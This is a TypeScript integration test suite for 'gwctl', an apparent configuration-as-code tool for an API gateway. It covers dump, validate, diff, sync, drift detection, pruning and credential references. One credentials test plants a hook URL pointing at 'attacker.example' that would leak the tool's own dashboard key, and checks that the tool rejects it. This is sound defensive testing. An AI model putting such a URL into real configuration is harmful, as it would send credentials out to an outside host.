/**
 * gwctl against local stages (docs/using/configuration-as-code.md): stage A (in this process) holds an
 * organisation with every kind of configuration; stage B (`npm start`'s entry point over a table
 * of its own) is another installation with an empty organisation, as a promotion from one stage to
 * another is. gwctl runs in this process through its `run` (the same code `npx gwctl` runs), except
 * where the test must kill it, where it runs as `npx gwctl` does.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { parse, stringify } from 'yaml';
import { tmpdir } from 'node:os';
import { dirname, join, relative } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { run } from '../../tools/gwctl/main';
import { rightsFor, uid } from '../support/fixtures';
import { spawnStage, stageAt, startStage, type SpawnedStage, type Stage } from '../support/stage';
import { ADMIN_SECRET, GW_SECRET, SERVER_SECRET } from '../support/table';

type Any = Record<string, any>;
let a: Stage;
let b: Stage;
let spawned: SpawnedStage | undefined;
let orgA: { orgId: string; key: string };
let orgB: { orgId: string; key: string };
const work = mkdtempSync(join(tmpdir(), 'gwctl-'));
const tag = uid('g');
const id = (name: string) => `${name}-${tag}`;
/** The header value the hook holds: a dump writes it as a reference, a sync reads it from the environment. */
const HEADER_SECRET = 'Bearer receiver-secret';

beforeAll(async () => {
  a = await startStage();
  orgA = await a.tenant();
  spawned = await spawnStage({
    dataDir: join(work, 'stage-b'),
    env: { DYNAMODB_ENDPOINT: process.env.DYNAMODB_ENDPOINT, TABLE_NAME: `t-gwctl-b-${tag}`, GW_SECRET, ADMIN_SECRET, SERVER_SECRET, LOG_LEVEL: 'warn' },
  });
  b = stageAt(spawned.url, `t-gwctl-b-${tag}`, async () => {});
  orgB = await b.tenant();
  await buildWorld(a, orgA);
}, 180_000);
afterAll(async () => {
  await spawned?.stop('SIGKILL');
  await a?.close();
  rmSync(work, { recursive: true, force: true });
});

const ok = (r: { status: number; body: unknown }, what: string) => {
  expect(r.status, `${what}: ${JSON.stringify(r.body)}`).toBe(200);
  return r.body as Any;
};

/** Every kind gwctl manages: hooks (one with a header), a template, OAS base + version, a classic API, a policy, an OAuth client. */
async function buildWorld(s: Stage, t: { orgId: string; key: string }) {
  const hook = ok(
    await s.dash(t.key, 'POST', '/api/hooks', {
      name: 'alerts',
      method: 'POST',
      target_path: 'https://hooks.example/alerts',
      header_map: { Authorization: HEADER_SECRET },
    }),
    'hook',
  );
  ok(
    await s.dash(t.key, 'POST', '/api/hooks', { name: 'audit trail', method: 'PUT', target_path: 'https://hooks.example/audit', event_timeout: 30 }),
    'hook 2',
  );
  ok(
    await s.dash(t.key, 'POST', '/api/assets', {
      id: id('tpl'),
      name: 'Standard',
      kind: 'oas-template',
      data: {
        openapi: '3.0.3',
        info: { title: 'T', version: '1' },
        paths: {},
        'x-gw-api-gateway': { server: { eventHandlers: [{ enabled: true, id: hook.Meta, name: 'q', trigger: 'QuotaExceeded', type: 'webhook' }] } },
      },
    }),
    'template',
  );
  ok(
    await s.dash(t.key, 'POST', '/api/assets', {
      name: 'Bare',
      kind: 'oas-template',
      data: { openapi: '3.0.3', info: { title: 'B', version: '1' }, paths: {} },
    }),
    'template 2',
  );
  ok(
    await s.gw('POST', '/gw/apis/oas', {
      openapi: '3.0.3',
      info: { title: 'Orders', version: '1' },
      paths: { '/orders': { get: { operationId: 'listOrders', responses: { '200': { description: 'ok' } } } } },
      'x-gw-api-gateway': {
        info: {
          id: id('orders'),
          orgId: t.orgId,
          name: 'Orders',
          state: { active: true },
          versioning: { enabled: true, name: 'v1', key: 'x-api-version', location: 'header', default: 'v1' },
        },
        server: {
          listenPath: { value: `/${id('orders')}/`, strip: true },
          eventHandlers: [{ enabled: true, id: hook.Meta, name: 'quota', trigger: 'QuotaExceeded', type: 'webhook' }],
          gatewayTags: { enabled: false, tags: ['team-orders'] },
        },
        upstream: { url: 'https://orders.example.com' },
      },
    }),
    'OAS base',
  );
  ok(
    await s.gw('POST', `/gw/apis/oas?base_api_id=${id('orders')}&new_version_name=v2`, {
      openapi: '3.0.3',
      info: { title: 'Orders v2', version: '2' },
      paths: {},
      'x-gw-api-gateway': {
        info: { id: id('orders-v2'), orgId: t.orgId, name: 'Orders v2', state: { active: true } },
        server: { listenPath: { value: `/${id('orders-v2')}/`, strip: true }, gatewayTags: { enabled: false, tags: ['team-orders'] } },
        upstream: { url: 'https://orders-v2.example.com' },
      },
    }),
    'OAS version',
  );
  ok(
    await s.gw('POST', '/gw/apis', {
      name: 'Legacy',
      api_id: id('legacy'),
      org_id: t.orgId,
      active: true,
      tags: ['team-legacy'],
      proxy: { listen_path: `/${id('legacy')}/`, target_url: 'https://legacy.example.com', strip_listen_path: true },
      event_handlers: { events: { KeyExpired: [{ handler_name: 'eh_web_hook_handler', handler_meta: { webhook_id: hook.Meta, name: 'expired' } }] } },
    }),
    'classic API',
  );
  ok(
    await s.gw('POST', '/gw/policies', {
      id: id('gold'),
      name: 'Gold',
      org_id: t.orgId,
      rate: 100,
      per: 60,
      quota_max: -1,
      tags: ['team-orders'],
      access_rights: rightsFor(id('orders')),
    }),
    'policy',
  );
  ok(
    await s.gw('POST', '/gw/oauth/clients/create', {
      api_id: id('orders'),
      client_id: id('client'),
      redirect_uri: 'https://app.example/cb',
      policy_id: id('gold'),
      description: 'mobile app',
      meta_data: { team: 'orders' },
    }),
    'OAuth client',
  );
}

interface Ran {
  code: number;
  out: string;
  err: string;
}
/** gwctl as `npx gwctl` runs it, in this process, against a stage as a tenant's user. */
async function gwctl(s: Stage, key: string, args: string[], env: Record<string, string> = {}): Promise<Ran> {
  const out: string[] = [];
  const err: string[] = [];
  const code = await run(args, {
    env: { GW_URL: s.url, GW_DASHBOARD_KEY: key, ...env },
    out: (l) => out.push(l),
    err: (l) => err.push(l),
  });
  return { code, out: out.join('\n'), err: err.join('\n') };
}

/** Every file of a folder with its text. */
function folderText(dir: string): Record<string, string> {
  const files: Record<string, string> = {};
  const walk = (d: string) => {
    for (const n of readdirSync(d).sort()) {
      const p = join(d, n);
      if (statSync(p).isDirectory()) walk(p);
      else files[relative(dir, p)] = readFileSync(p, 'utf8');
    }
  };
  walk(dir);
  return files;
}

const dumpA = join(work, 'dump-a');

/** Changes one file of a folder (a parsed copy written back). */
function edit(dir: string, file: string, change: (o: Any) => void) {
  const o = parse(readFileSync(join(dir, file), 'utf8')) as Any;
  change(o);
  writeFileSync(join(dir, file), stringify(o));
}
const copyOf = (from: string, name: string) => {
  const to = join(work, name);
  cpSync(from, to, { recursive: true });
  return to;
};

describe('gwctl dump', () => {
  it('writes one sorted YAML file per object, without server-managed fields, with hook names and header references', async () => {
    const r = await gwctl(a, orgA.key, ['dump', '--dir', dumpA]);
    expect(r.code, r.err).toBe(0);
    const files = folderText(dumpA);
    expect(Object.keys(files).sort()).toEqual(
      [
        'gwctl.yaml',
        'hooks/alerts.yaml',
        'hooks/audit-trail.yaml',
        'templates/Bare.yaml',
        `templates/${id('tpl')}.yaml`,
        `apis/${id('orders')}.yaml`,
        `apis/${id('orders-v2')}.yaml`,
        `apis/${id('legacy')}.yaml`,
        `policies/${id('gold')}.yaml`,
        `oauth-clients/${id('orders')}/${id('client')}.yaml`,
      ].sort(),
    );
    const all = Object.values(files).join('\n');
    // Nothing the service owns or generates, no organisation, no clear header value, no secret.
    expect(
      all.split('\n').filter((l) => /\b[0-9a-f]{24}\b|dbId|orgId|org_id|created_at|updated_at|last_updated|date_created|version: \d|(^|\s)_id:|secret/.test(l)),
    ).toEqual([]);
    expect(all).not.toContain(orgA.orgId);
    expect(all).not.toContain(HEADER_SECRET);
    expect(files['hooks/alerts.yaml']).toBe(
      'kind: hook\nspec:\n  header_map:\n    Authorization: ${env:GW_HOOK_ALERTS_AUTHORIZATION}\n  method: POST\n  name: alerts\n  target_path: ' +
        'https://hooks.example/alerts\n',
    );
    expect(files['gwctl.yaml']).toContain('format: gwctl/v1');
    expect(parse(files['gwctl.yaml']!).environment).toEqual([
      { name: 'GW_HOOK_ALERTS_AUTHORIZATION', used_by: ['hooks/alerts.yaml#spec.header_map.Authorization'] },
    ]);
    const base = parse(files[`apis/${id('orders')}.yaml`]!) as Any;
    expect(base.spec['x-gw-api-gateway'].server.eventHandlers[0].id).toBe('${hook:alerts}');
    expect(base.spec['x-gw-api-gateway'].info.versioning).not.toHaveProperty('versions');
    expect(parse(files[`apis/${id('orders-v2')}.yaml`]!).version_of).toEqual({ base: id('orders'), name: 'v2' });
    expect(parse(files[`apis/${id('legacy')}.yaml`]!).spec.event_handlers.events.KeyExpired[0].handler_meta.webhook_id).toBe('${hook:alerts}');
    // Keys sorted at every level.
    expect(files[`apis/${id('orders')}.yaml`]!.indexOf('openapi:')).toBeLessThan(files[`apis/${id('orders')}.yaml`]!.indexOf('x-gw-api-gateway:'));

    // A second dump of the unchanged organisation is byte-identical.
    const again = join(work, 'dump-a-again');
    expect((await gwctl(a, orgA.key, ['dump', '--dir', again])).code).toBe(0);
    expect(folderText(again)).toEqual(files);
  });
});

describe('gwctl validate', () => {
  it('passes a dump', async () => {
    const r = await gwctl(a, orgA.key, ['validate', '--dir', dumpA]);
    expect(r.err).toBe('');
    expect(r.code).toBe(0);
  });

  it('names the file and path of a handler naming a hook in neither the folder nor the organisation, and of a schema error', async () => {
    const dir = copyOf(dumpA, 'invalid');
    edit(dir, `apis/${id('orders')}.yaml`, (o) => (o.spec['x-gw-api-gateway'].server.eventHandlers[0].id = '${hook:nobody}'));
    edit(dir, 'hooks/audit-trail.yaml', (o) => (o.spec.method = 'FETCH'));
    edit(dir, `policies/${id('gold')}.yaml`, (o) => (o.spec.access_rights['no-such-api'] = { api_id: 'no-such-api', versions: [] }));
    const r = await gwctl(a, orgA.key, ['validate', '--dir', dir, '--org']);
    expect(r.code).toBe(1);
    const lines = r.err.split('\n');
    expect(lines).toContain(
      `apis/${id('orders')}.yaml: spec.x-gw-api-gateway.server.eventHandlers[0].id: names the webhook "nobody", in neither the folder nor the organisation`,
    );
    expect(lines).toContain(
      `hooks/audit-trail.yaml: spec.method: must be equal to one of the allowed values: ["DELETE","GET","PUT","POST","PATCH"] (WebhookInput)`,
    );
    expect(lines).toContain(
      `policies/${id('gold')}.yaml: spec.access_rights.no-such-api: grants the API "no-such-api", in neither the folder nor the organisation`,
    );
    expect(lines).toHaveLength(3);

    // A hook the organisation has but the folder does not: fine with --org, an error offline.
    rmSync(join(dir, 'hooks', 'alerts.yaml'));
    edit(dir, `apis/${id('orders')}.yaml`, (o) => (o.spec['x-gw-api-gateway'].server.eventHandlers[0].id = '${hook:alerts}'));
    edit(dir, 'hooks/audit-trail.yaml', (o) => (o.spec.method = 'PUT'));
    edit(dir, `policies/${id('gold')}.yaml`, (o) => delete o.spec.access_rights['no-such-api']);
    const online = await gwctl(a, orgA.key, ['validate', '--dir', dir, '--org']);
    expect(online.err.split('\n').filter((l) => l.includes('webhook'))).toEqual([]);
    const offline = await gwctl(a, orgA.key, ['validate', '--dir', dir]);
    expect(offline.code).toBe(1);
    expect(offline.err).toContain(
      `apis/${id('orders')}.yaml: spec.x-gw-api-gateway.server.eventHandlers[0].id: names the webhook "alerts", in neither the folder`,
    );
  });
});

const ENV = { GW_HOOK_ALERTS_AUTHORIZATION: HEADER_SECRET };
/** Writes to the service (anything but GET) that gwctl sends while `f` runs, with their headers and bodies. */
async function writesDuring<T>(f: () => Promise<T>): Promise<{ result: T; writes: string[]; sent: Array<{ write: string; headers: Headers; body: string }> }> {
  const original = globalThis.fetch;
  const sent: Array<{ write: string; headers: Headers; body: string }> = [];
  globalThis.fetch = async (input: Parameters<typeof fetch>[0], init?: RequestInit) => {
    const req = input instanceof Request ? input : new Request(input, init);
    if (req.method !== 'GET') sent.push({ write: `${req.method} ${new URL(req.url).pathname}`, headers: req.headers, body: await req.clone().text() });
    return original(input, init);
  };
  try {
    const result = await f();
    return { result, writes: sent.map((x) => x.write), sent };
  } finally {
    globalThis.fetch = original;
  }
}

describe('gwctl sync and diff', () => {
  const dumpB = join(work, 'dump-b');

  it('round trip: the dump synced into an empty organisation of another installation dumps to the same folder; diff then says no change', async () => {
    const objects = Object.keys(folderText(dumpA)).length - 1;
    const empty = await gwctl(b, orgB.key, ['diff', '--dir', dumpA], ENV);
    expect(empty.code, empty.err).toBe(2);
    expect(empty.out).toContain(`Plan: ${objects} to create, 0 to update, 0 to delete; 0 unchanged.`);

    const dry = await writesDuring(() => gwctl(b, orgB.key, ['sync', '--dir', dumpA, '--dry-run'], ENV));
    expect(dry.result.out).toBe(empty.out);
    expect(dry.writes).toEqual([]);

    const { result: r, sent } = await writesDuring(() => gwctl(b, orgB.key, ['sync', '--dir', dumpA, '--secrets-file', join(work, 'secrets.json')], ENV));
    expect(r.code, `${r.out}\n${r.err}`).toBe(0);
    // Every create carries an Idempotency-Key derived from the plan; the header value comes from the environment, and is never printed.
    expect(sent.map((x) => x.headers.get('idempotency-key'))).toEqual(sent.map(() => expect.stringMatching(/^gwctl-[0-9a-f]{64}$/)));
    expect(JSON.parse(sent.find((x) => x.write.endsWith('/api/hooks') && x.body.includes('"alerts"'))!.body).header_map).toEqual({
      Authorization: HEADER_SECRET,
    });
    expect(`${r.out}${r.err}`).not.toContain(HEADER_SECRET);
    // The new OAuth client's secret went to the secrets file only.
    const secrets = JSON.parse(readFileSync(join(work, 'secrets.json'), 'utf8')) as Any[];
    expect(secrets).toEqual([{ api_id: id('orders'), client_id: id('client'), secret: expect.stringMatching(/^[0-9a-f]{64}$/) }]);
    expect(`${r.out}${r.err}`).not.toContain(secrets[0]!.secret);

    expect((await gwctl(b, orgB.key, ['dump', '--dir', dumpB])).code).toBe(0);
    expect(folderText(dumpB)).toEqual(folderText(dumpA));
    const again = await gwctl(b, orgB.key, ['diff', '--dir', dumpB]);
    expect(again.out).toContain(`Plan: 0 to create, 0 to update, 0 to delete; ${objects} unchanged.`);
    expect(again.code).toBe(0);

    // Reference order: hooks, templates, the base API before its version, policies, OAuth clients.
    const applied = r.out
      .split('\n')
      .filter((l) => l.startsWith('applied: '))
      .map((l) => l.replace(/^applied: create (\S+) .*$/, '$1'));
    expect(applied).toEqual(['hook', 'hook', 'template', 'template', 'api', 'api', 'api', 'policy', 'oauth-client']);
    expect(r.out.indexOf(`create api ${id('orders')}`)).toBeLessThan(r.out.indexOf(`create api ${id('orders-v2')}`));

    // The links the service keeps, made again from the files: the version on its base, the handler on the new hook.
    const base = ok(await b.gw('GET', `/gw/apis/oas/${id('orders')}`), 'base');
    expect(base['x-gw-api-gateway'].info.versioning.versions).toEqual([{ id: id('orders-v2'), name: 'v2' }]);
    const hooks = ok(await b.dash(orgB.key, 'GET', '/api/hooks'), 'hooks').hooks as Any[];
    expect(base['x-gw-api-gateway'].server.eventHandlers[0].id).toBe(hooks.find((h) => h.name === 'alerts')!.id);
    expect(hooks.find((h) => h.name === 'alerts')!.header_map).toEqual({ Authorization: '********' });
  });

  it('one edited field shows up in diff as exactly that path, and sync applies it with one request', async () => {
    const dir = copyOf(dumpB, 'edited');
    edit(dir, `apis/${id('orders')}.yaml`, (o) => (o.spec['x-gw-api-gateway'].upstream.url = 'https://orders-new.example.com'));
    const d = await gwctl(b, orgB.key, ['diff', '--dir', dir, '--output', 'json']);
    expect(d.code).toBe(2);
    const plan = JSON.parse(d.out) as Any;
    expect(plan.changes).toEqual([
      {
        action: 'update',
        kind: 'api',
        key: id('orders'),
        file: `apis/${id('orders')}.yaml`,
        etag: expect.stringMatching(/^"\d+"$/),
        read: expect.any(String),
        fields: [{ path: 'spec.x-gw-api-gateway.upstream.url', old: 'https://orders.example.com', new: 'https://orders-new.example.com' }],
      },
    ]);
    const text = await gwctl(b, orgB.key, ['diff', '--dir', dir]);
    expect(text.out).toContain('    spec.x-gw-api-gateway.upstream.url: "https://orders.example.com" → "https://orders-new.example.com"');

    const { result, writes } = await writesDuring(() => gwctl(b, orgB.key, ['sync', '--dir', dir], ENV));
    expect(result.code, result.err).toBe(0);
    expect(writes).toHaveLength(1);
    expect(writes[0]).toMatch(new RegExp(`^PUT /.*/${id('orders')}$`));
    expect(ok(await b.gw('GET', `/gw/apis/oas/${id('orders')}`), 'read')['x-gw-api-gateway'].upstream.url).toBe('https://orders-new.example.com');
    expect((await gwctl(b, orgB.key, ['diff', '--dir', dir])).code).toBe(0);
  });

  it('an object changed through the API between diff and sync is drift: left as the other writer left it, reported, exit 1; the rest is applied', async () => {
    const dir = copyOf(dumpB, 'drift');
    edit(dir, `apis/${id('legacy')}.yaml`, (o) => (o.spec.name = 'Legacy (gwctl)'));
    edit(dir, 'hooks/audit-trail.yaml', (o) => (o.spec.event_timeout = 45));
    const planFile = join(work, 'drift-plan.json');
    const d = await gwctl(b, orgB.key, ['diff', '--dir', dir, '--plan-out', planFile]);
    expect(d.code).toBe(2);

    // Another writer changes the hook after the plan.
    const hooks = ok(await b.dash(orgB.key, 'GET', '/api/hooks'), 'hooks').hooks as Any[];
    const audit = hooks.find((h) => h.name === 'audit trail')!;
    ok(
      await b.dash(orgB.key, 'PUT', `/api/hooks/${audit.id}`, {
        name: 'audit trail',
        method: 'PUT',
        target_path: 'https://hooks.example/audit-moved',
        event_timeout: 30,
      }),
      'other writer',
    );

    const r = await gwctl(b, orgB.key, ['sync', '--dir', dir, '--plan', planFile], ENV);
    expect(r.code).toBe(1);
    expect(r.out).toContain('drift: update hook audit trail (changed by another writer since the plan (412))');
    expect(r.out).toMatch(new RegExp(`applied: update api ${id('legacy')}`));
    const after = ok(await b.dash(orgB.key, 'GET', `/api/hooks/${audit.id}`), 'hook');
    expect(after).toMatchObject({ target_path: 'https://hooks.example/audit-moved', event_timeout: 30 });
    expect(ok(await b.gw('GET', `/gw/apis/${id('legacy')}`), 'legacy').name).toBe('Legacy (gwctl)');
  });
  it('--prune deletes what the folder does not have, in reverse reference order (OAuth clients and versions before what they name)', async () => {
    const dir = join(work, 'empty');
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, 'gwctl.yaml'), stringify({ format: 'gwctl/v1', environment: [] }));
    const kept = await gwctl(b, orgB.key, ['sync', '--dir', dir]);
    expect(kept.code).toBe(0);
    expect(kept.out).toContain('Sync: 0 applied');
    const r = await gwctl(b, orgB.key, ['sync', '--dir', dir, '--prune']);
    expect(r.code, `${r.out}\n${r.err}`).toBe(0);
    const deleted = r.out
      .split('\n')
      .filter((l) => l.startsWith('applied: delete '))
      .map((l) => l.split(' ')[2]);
    expect(deleted).toEqual(['oauth-client', 'policy', 'api', 'api', 'api', 'template', 'template', 'hook', 'hook']);
    expect(r.out.indexOf(`delete api ${id('orders-v2')}`)).toBeLessThan(r.out.indexOf(`delete api ${id('orders')}`));
    expect((await gwctl(b, orgB.key, ['dump', '--dir', join(work, 'dump-b-empty')])).out).toMatch(/^dumped 0 objects/);
  });
});

describe('gwctl and credentials', () => {
  const SECRETS = ['up-user', 'up-pass', 'basic-pass', 'Bearer api-s3cret', 'hook-user', 'hook-pass', 'tok-abc', 'Bearer hook-header'];
  const dir = join(work, 'creds');
  let orgC: { orgId: string; key: string };
  const api = id('creds');
  const envOf = (...parts: string[]) => parts.map((p) => p.toUpperCase().replace(/[^A-Z0-9]+/g, '_')).join('_');

  beforeAll(async () => {
    orgC = await a.tenant();
    ok(
      await a.dash(orgC.key, 'POST', '/api/hooks', {
        name: 'billing',
        method: 'POST',
        target_path: 'https://hook-user:hook-pass@hooks.example/h?token=tok-abc&team=ops',
        header_map: { Authorization: 'Bearer hook-header' },
      }),
      'hook',
    );
    ok(
      await a.gw('POST', '/gw/apis/oas', {
        openapi: '3.0.3',
        info: { title: 'Creds', version: '1' },
        paths: {},
        'x-gw-api-gateway': {
          info: { id: api, orgId: orgC.orgId, name: 'Creds', state: { active: true } },
          server: { listenPath: { value: `/${api}/`, strip: true } },
          upstream: { url: 'https://up-user:up-pass@up.example', authentication: { basicAuth: { enabled: true, username: 'svc', password: 'basic-pass' } } },
          middleware: { global: { transformRequestHeaders: { enabled: true, add: [{ name: 'Authorization', value: 'Bearer api-s3cret' }] } } },
        },
      }),
      'API',
    );
  });

  it('dump writes no secret, only references, and names them (gwctl.yaml and its output); the dump validates and diffs as unchanged', async () => {
    const r = await gwctl(a, orgC.key, ['dump', '--dir', dir]);
    expect(r.code, r.err).toBe(0);
    const text = Object.values(folderText(dir)).join('\n');
    for (const secret of [...SECRETS, '********']) expect(text).not.toContain(secret);
    const names = [
      envOf('GW_API', api, 'AUTHORIZATION'),
      envOf('GW_API', api, 'BASICAUTH_PASSWORD'),
      envOf('GW_API', api, 'UPSTREAM_URL_PASSWORD'),
      envOf('GW_API', api, 'UPSTREAM_URL_USER'),
      'GW_HOOK_BILLING_AUTHORIZATION',
      'GW_HOOK_BILLING_TARGET_PATH_PASSWORD',
      'GW_HOOK_BILLING_TARGET_PATH_TOKEN',
      'GW_HOOK_BILLING_TARGET_PATH_USER',
    ].sort();
    expect((parse(readFileSync(join(dir, 'gwctl.yaml'), 'utf8')).environment as Any[]).map((e) => e.name)).toEqual(names);
    expect(r.out).toContain(`diff and sync need these set (gwctl.yaml lists where each is used): ${names.join(', ')}`);
    expect(parse(readFileSync(join(dir, 'hooks/billing.yaml'), 'utf8')).spec.target_path).toBe(
      'https://${env:GW_HOOK_BILLING_TARGET_PATH_USER}:${env:GW_HOOK_BILLING_TARGET_PATH_PASSWORD}@hooks.example/h' +
        '?token=${env:GW_HOOK_BILLING_TARGET_PATH_TOKEN}&team=ops',
    );
    const v = await gwctl(a, orgC.key, ['validate', '--dir', dir]);
    expect(v.code, v.err).toBe(0);
    const d = await gwctl(a, orgC.key, ['diff', '--dir', dir]);
    expect(d.code, `${d.out}\n${d.err}`).toBe(0);
    for (const secret of SECRETS) expect(d.out + d.err).not.toContain(secret);
  });

  it('sync expands the references where the credentials are: another organisation gets them, and no output shows one', async () => {
    const orgD = await b.tenant();
    const env = {
      [envOf('GW_API', api, 'AUTHORIZATION')]: 'Bearer api-s3cret',
      [envOf('GW_API', api, 'BASICAUTH_PASSWORD')]: 'basic-pass',
      [envOf('GW_API', api, 'UPSTREAM_URL_PASSWORD')]: 'up-pass',
      [envOf('GW_API', api, 'UPSTREAM_URL_USER')]: 'up-user',
      GW_HOOK_BILLING_AUTHORIZATION: 'Bearer hook-header',
      GW_HOOK_BILLING_TARGET_PATH_PASSWORD: 'hook-pass',
      GW_HOOK_BILLING_TARGET_PATH_TOKEN: 'tok-abc',
      GW_HOOK_BILLING_TARGET_PATH_USER: 'hook-user',
    };
    const { result: r, sent } = await writesDuring(() => gwctl(b, orgD.key, ['sync', '--dir', dir], env));
    expect(r.code, `${r.out}\n${r.err}`).toBe(0);
    for (const secret of SECRETS) expect(r.out + r.err).not.toContain(secret);
    expect(JSON.parse(sent.find((x) => x.write === 'POST /api/hooks')!.body).target_path).toBe(
      'https://hook-user:hook-pass@hooks.example/h?token=tok-abc&team=ops',
    );
    const gw = ok(await b.gw('GET', `/gw/apis/oas/${api}`), 'API')['x-gw-api-gateway'];
    expect(gw.upstream.url).toBe('https://up-user:up-pass@up.example');
    expect(gw.upstream.authentication.basicAuth.password).toBe('basic-pass');
    expect(gw.middleware.global.transformRequestHeaders.add).toEqual([{ name: 'Authorization', value: 'Bearer api-s3cret' }]);
    expect((await gwctl(b, orgD.key, ['diff', '--dir', dir], env)).code).toBe(0);
  });

  it("validate, diff and sync refuse a reference outside a credential and gwctl's own credential anywhere; nothing is written", async () => {
    const bad = copyOf(dir, 'creds-bad');
    edit(bad, 'hooks/billing.yaml', (o) => (o.spec.target_path = 'https://attacker.example/c?k=${env:GW_DASHBOARD_KEY}'));
    edit(bad, `apis/${api}.yaml`, (o) => {
      o.spec['x-gw-api-gateway'].info.name = '${env:GW_HOOK_BILLING_AUTHORIZATION}';
      o.spec['x-gw-api-gateway'].middleware.global.transformRequestHeaders.add[0].value = '${env:GW_DASHBOARD_KEY}';
    });
    const index = parse(readFileSync(join(bad, 'gwctl.yaml'), 'utf8')) as Any;
    index.environment.push({ name: 'GW_DASHBOARD_KEY', used_by: [] });
    writeFileSync(join(bad, 'gwctl.yaml'), stringify(index));
    const expected = [
      `apis/${api}.yaml: spec.x-gw-api-gateway.info.name: \${env:GW_HOOK_BILLING_AUTHORIZATION}: a reference is expanded only where a credential is ` +
        '(docs/using/configuration-as-code.md), and this is not one',
      `apis/${api}.yaml: spec.x-gw-api-gateway.middleware.global.transformRequestHeaders.add[0].value: \${env:GW_DASHBOARD_KEY} is gwctl's own credential: ` +
        'no file may name it',
      "hooks/billing.yaml: spec.target_path: ${env:GW_DASHBOARD_KEY} is gwctl's own credential: no file may name it",
    ];
    const v = await gwctl(a, orgC.key, ['validate', '--dir', bad]);
    expect(v.code).toBe(1);
    expect(v.err.split('\n').sort()).toEqual(expected.sort());
    for (const command of ['diff', 'sync']) {
      const { result, writes } = await writesDuring(() => gwctl(a, orgC.key, [command, '--dir', bad]));
      expect(result.code, command).toBe(1);
      expect(result.err, command).toContain(expected[2]);
      expect(writes, command).toEqual([]);
    }
    const hooks = ok(await a.dash(orgC.key, 'GET', '/api/hooks'), 'hooks').hooks as Any[];
    expect(hooks.map((h) => h.target_path)).toEqual(['https://********:********@hooks.example/h?token=********&team=ops']);
  });
});

describe('gwctl sync killed halfway', () => {
  it('a second run converges without duplicates, even when the last write before the kill was made but never answered', async () => {
    const orgK = await a.tenant();
    const dir = join(work, 'kill');
    const hooks = Array.from({ length: 5 }, (_, i) => `kill-hook-${i}`);
    const apiIds = Array.from({ length: 3 }, (_, i) => id(`kill-api-${i}`));
    const files: Record<string, Any> = {};
    for (const h of hooks)
      files[`hooks/${h}.yaml`] = { kind: 'hook', spec: { name: h, method: 'POST', target_path: `https://hooks.example/${h}`, header_map: {} } };
    files['templates/kill-template.yaml'] = {
      kind: 'template',
      spec: { name: 'kill-template', description: '', kind: 'oas-template', data: { openapi: '3.0.3', info: { title: 'K', version: '1' }, paths: {} } },
    };
    apiIds.forEach((apiId, i) => {
      files[`apis/${apiId}.yaml`] = {
        kind: 'api',
        spec: {
          openapi: '3.0.3',
          info: { title: apiId, version: '1' },
          paths: {},
          'x-gw-api-gateway': {
            info: { id: apiId, name: apiId, state: { active: true } },
            server: {
              listenPath: { value: `/${apiId}/`, strip: true },
              eventHandlers: [{ enabled: true, id: `\${hook:${hooks[i]}}`, name: 'q', trigger: 'QuotaExceeded', type: 'webhook' }],
            },
            upstream: { url: 'https://up.example.com' },
          },
        },
      };
    });
    for (const [path, o] of Object.entries(files)) {
      mkdirSync(dirname(join(dir, path)), { recursive: true });
      writeFileSync(join(dir, path), stringify(o));
    }
    writeFileSync(join(dir, 'gwctl.yaml'), stringify({ format: 'gwctl/v1', environment: [] }));

    // A proxy that lets four writes through, then passes the fifth to the stage and kills gwctl
    // before gwctl sees the answer: the worst moment, the write made and never acknowledged.
    let writes = 0;
    let child: ChildProcess | undefined;
    const proxy = createServer(async (req, res) => {
      const chunks: Buffer[] = [];
      for await (const c of req) chunks.push(c as Buffer);
      const headers = Object.fromEntries(Object.entries(req.headers).filter(([k]) => !['host', 'connection', 'content-length'].includes(k))) as Record<
        string,
        string
      >;
      const answer = await fetch(`${a.url}${req.url}`, { method: req.method, headers, ...(chunks.length ? { body: Buffer.concat(chunks) } : {}) });
      const text = await answer.text();
      if (req.method !== 'GET' && ++writes === 5) {
        const exited = once(child!, 'exit');
        child!.kill('SIGKILL');
        await exited;
        res.destroy();
        return;
      }
      res.writeHead(answer.status, Object.fromEntries(answer.headers.entries()));
      res.end(text);
    });
    await new Promise<void>((r) => proxy.listen(0, '127.0.0.1', r));
    const proxyUrl = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`;
    try {
      child = spawn(process.execPath, [join(process.cwd(), 'tools/gwctl/bin.mjs'), 'sync', '--dir', dir], {
        env: { ...process.env, GW_URL: proxyUrl, GW_DASHBOARD_KEY: orgK.key, GW_SECRET: '' },
        stdio: ['ignore', 'pipe', 'pipe'],
      });
      let out = '';
      child.stdout!.on('data', (d) => (out += String(d)));
      child.stderr!.on('data', (d) => (out += String(d)));
      const [, signal] = (await once(child, 'exit')) as [number | null, string | null];
      expect(signal, out).toBe('SIGKILL');
      expect(out.match(/^applied: /gm)).toHaveLength(4);
    } finally {
      proxy.close();
    }

    const second = await gwctl(a, orgK.key, ['sync', '--dir', dir]);
    expect(second.code, `${second.out}\n${second.err}`).toBe(0);
    // The fifth write was made before the kill: the second run finds it and leaves it.
    expect(second.out).toContain('Sync: 4 applied, 0 already in place, 0 drift, 0 failed, 0 not applied.');
    expect((await gwctl(a, orgK.key, ['diff', '--dir', dir])).code).toBe(0);
    const names = (ok(await a.dash(orgK.key, 'GET', '/api/hooks?p=-1'), 'hooks').hooks as Any[]).map((h) => h.name).sort();
    expect(names).toEqual([...hooks].sort());
    expect((ok(await a.dash(orgK.key, 'GET', '/api/assets?p=-1'), 'templates').assets as Any[]).map((t) => t.name)).toEqual(['kill-template']);
    expect((ok(await a.dash(orgK.key, 'GET', '/api/apis?p=-1'), 'apis').apis as Any[]).map((x) => x.api_definition.api_id).sort()).toEqual([...apiIds].sort());
  });
});
